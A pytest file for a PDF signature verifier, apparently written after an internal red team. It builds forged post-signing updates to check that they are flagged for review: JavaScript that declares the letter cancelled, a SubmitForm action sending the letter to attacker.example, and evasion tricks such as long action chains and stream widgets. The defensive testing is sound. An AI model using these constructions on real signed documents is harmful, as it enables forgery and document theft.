"""Actions and JavaScript added after signing (red team of session 35).

An empty signature field with a zero-area rectangle, added after the sender signed,
counts for pyHanko as an invisible long-term-validation update whatever its widget
does: its page-open action ran JavaScript ("this letter is cancelled", a field set to
another value) and its page-visible action posted the whole letter to an outside
address, and the signature stayed TOTAL_PASSED, "signatures added", no review, even on
a certification that allows no change. Now whatever a later revision adds that a reader
runs by itself makes the signature INDETERMINATE / SIG_CONSTRAINTS_FAILURE, for review.
"""
from __future__ import annotations

import io

import pytest

from gateway.signatures import actions
from gateway.signatures.verify import verify_pdf
from tests.pki import make_letter, sign_letter
from tests.signatures.covering import attach_field

CODE = 'app.alert("this letter is cancelled"); var f = this.getField("remark"); if (f) f.value = "ATTACKER";'


def _js(code: str):
    from pyhanko.pdf_utils import generic
    from pyhanko.pdf_utils.generic import pdf_name as N

    return generic.DictionaryObject({N("/S"): N("/JavaScript"), N("/JS"): generic.pdf_string(code)})


def _submit():
    from pyhanko.pdf_utils import generic
    from pyhanko.pdf_utils.generic import pdf_name as N

    return generic.DictionaryObject({
        N("/S"): N("/SubmitForm"), N("/Flags"): generic.NumberObject(256),
        N("/F"): generic.DictionaryObject({N("/FS"): N("/URL"),
                                           N("/F"): generic.pdf_string("https://attacker.example/collect")})})


def _later(signed: bytes, change) -> bytes:
    """`signed` with one incremental update made by `change(writer, page_ref)`."""
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

    w = IncrementalPdfFileWriter(io.BytesIO(signed))
    page_ref = w.find_page_for_modification(0)[0]
    change(w, page_ref)
    out = io.BytesIO()
    w.write(out)
    return out.getvalue()


def _invisible_field(triggers: dict):
    """An empty signature field, zero-area widget, with these additional actions."""
    from pyhanko.pdf_utils import generic
    from pyhanko.pdf_utils.generic import pdf_name as N

    def change(w, page_ref):
        field = generic.DictionaryObject({
            N("/FT"): N("/Sig"), N("/T"): generic.pdf_string("Signature2"), N("/Type"): N("/Annot"),
            N("/Subtype"): N("/Widget"), N("/F"): generic.NumberObject(4), N("/P"): page_ref,
            N("/Rect"): generic.ArrayObject(map(generic.NumberObject, (0, 0, 0, 0))),
            N("/AA"): generic.DictionaryObject({N(k): v for k, v in triggers.items()})})
        attach_field(w, page_ref, field)
    return change


def _page_action(w, page_ref):
    """The page's own page-open action, the script an object of its own."""
    from pyhanko.pdf_utils import generic
    from pyhanko.pdf_utils.generic import pdf_name as N

    page = page_ref.get_object()
    page[N("/AA")] = generic.DictionaryObject({N("/O"): w.add_object(_js(CODE))})
    w.update_container(page)


@pytest.fixture(scope="module")
def letters(pki):
    plain = make_letter(with_form_field=True)
    return {"approval": sign_letter(plain, pki), "certified P=1": sign_letter(plain, pki, certify_no_changes=True),
            "certified P=2": sign_letter(plain, pki, certify_fill_forms=True)}


@pytest.mark.parametrize("kind", ["approval", "certified P=1", "certified P=2"])
def test_an_invisible_field_whose_actions_run_script_and_send_the_letter_away_is_for_review(letters, trust, kind):
    forged = _later(letters[kind], _invisible_field({"/PO": _js(CODE), "/PV": _submit()}))
    [sig] = verify_pdf(forged, trust).signatures
    assert (sig.indication, sig.sub_indication, sig.modifications, sig.review) == \
        ("INDETERMINATE", "SIG_CONSTRAINTS_FAILURE", "other", True)
    assert sig.message == "actions a reader runs were added after signing (JavaScript, SubmitForm)"


@pytest.mark.parametrize("how", ["script on the page", "a link that opens an address on page view"])
def test_other_places_an_action_is_added(letters, trust, how):
    from pyhanko.pdf_utils import generic
    from pyhanko.pdf_utils.generic import pdf_name as N

    uri = generic.DictionaryObject({N("/S"): N("/URI"), N("/URI"): generic.pdf_string("https://attacker.example/")})
    change = _page_action if how == "script on the page" else _invisible_field({"/PV": uri})
    [sig] = verify_pdf(_later(letters["approval"], change), trust).signatures
    assert (sig.indication, sig.review) == ("INDETERMINATE", True)
    assert "actions a reader runs were added after signing" in sig.message


def test_a_second_signature_is_not_an_action(letters, trust, pki):
    """What a later revision usually adds (a co-signer's signature) stays as it was."""
    cosigned = sign_letter(letters["approval"], pki, field_name="Signature2")
    first, second = verify_pdf(cosigned, trust).signatures
    assert (first.indication, first.modifications, first.review) == ("TOTAL_PASSED", "signatures_added", False)
    assert second.indication == "TOTAL_PASSED"


def test_past_the_objects_looked_through_it_is_for_review(letters, trust, monkeypatch):
    monkeypatch.setattr(actions, "MAX_OBJECTS", 1)
    cosigned = _later(letters["approval"], _invisible_field({}))
    [sig] = verify_pdf(cosigned, trust).signatures
    assert sig.review and "not looked through" in sig.message


def _goto(next_=None):
    from pyhanko.pdf_utils import generic
    from pyhanko.pdf_utils.generic import pdf_name as N

    action = generic.DictionaryObject({N("/S"): N("/GoTo"), N("/D"): generic.ArrayObject(
        [generic.NumberObject(0), N("/Fit")])})
    if next_ is not None:
        action[N("/Next")] = next_
    return action


def _chain(length: int):
    """GoTo -> GoTo -> ... (`length` of them, inline) -> JavaScript."""
    action = _js(CODE)
    for _ in range(length):
        action = _goto(action)
    return action


@pytest.mark.parametrize("how", ["behind 32 harmless triggers", "behind 9 inline /Next", "behind 64 in a /Next array",
                                 "behind a chain past what is followed", "the widget a stream"])
def test_actions_hidden_where_a_reader_still_finds_them(letters, trust, how):
    """Session 35's second red team: each was TOTAL_PASSED behind the first fix's limits,
    which stopped looking instead of failing; a widget written as a stream was skipped."""
    from pyhanko.pdf_utils import generic
    from pyhanko.pdf_utils.generic import pdf_name as N

    if how == "behind 32 harmless triggers":
        triggers = {**{f"/X{n}": _goto() for n in range(32)}, "/PO": _js(CODE)}
    elif how == "behind 9 inline /Next":
        triggers = {"/PO": _chain(9)}
    elif how == "behind 64 in a /Next array":
        triggers = {"/PO": _goto(generic.ArrayObject([*(_goto() for _ in range(64)), _js(CODE)]))}
    elif how == "behind a chain past what is followed":
        triggers = {"/PO": _chain(actions.MAX_DEPTH + 5)}
    else:
        triggers = None
    if triggers is not None:
        change = _invisible_field(triggers)
    else:
        def change(w, page_ref):
            stream = generic.StreamObject({
                N("/FT"): N("/Sig"), N("/T"): generic.pdf_string("Signature2"), N("/Type"): N("/Annot"),
                N("/Subtype"): N("/Widget"), N("/F"): generic.NumberObject(4), N("/P"): page_ref,
                N("/Rect"): generic.ArrayObject(map(generic.NumberObject, (0, 0, 0, 0))),
                N("/AA"): generic.DictionaryObject({N("/PO"): _js(CODE)})}, stream_data=b"")
            attach_field(w, page_ref, stream)
    [sig] = verify_pdf(_later(letters["approval"], change), trust).signatures
    assert (sig.indication, sig.modifications, sig.review) == ("INDETERMINATE", "other", True), sig.message
    assert "actions" in sig.message and "added after signing" in sig.message


def test_a_new_link_annotation_whose_action_is_a_script(letters, trust):
    """A variation the red team did not name: not a widget, a Link annotation (what
    pyHanko calls annotations changed, for review) whose /A runs JavaScript on a click:
    the verdict says it is more than an annotation."""
    from pyhanko.pdf_utils import generic
    from pyhanko.pdf_utils.generic import pdf_name as N

    def change(w, page_ref):
        link = generic.DictionaryObject({
            N("/Type"): N("/Annot"), N("/Subtype"): N("/Link"), N("/P"): page_ref,
            N("/Rect"): generic.ArrayObject(map(generic.NumberObject, (50, 50, 300, 80))),
            N("/A"): w.add_object(_js(CODE))})
        ref = w.add_object(link)
        page = page_ref.get_object()
        page[N("/Annots")] = generic.ArrayObject([*page.get("/Annots", []), ref])
        w.update_container(page)

    [sig] = verify_pdf(_later(letters["approval"], change), trust).signatures
    assert (sig.indication, sig.modifications, sig.review) == ("INDETERMINATE", "other", True), sig.message
    assert "actions a reader runs were added after signing (JavaScript)" in sig.message
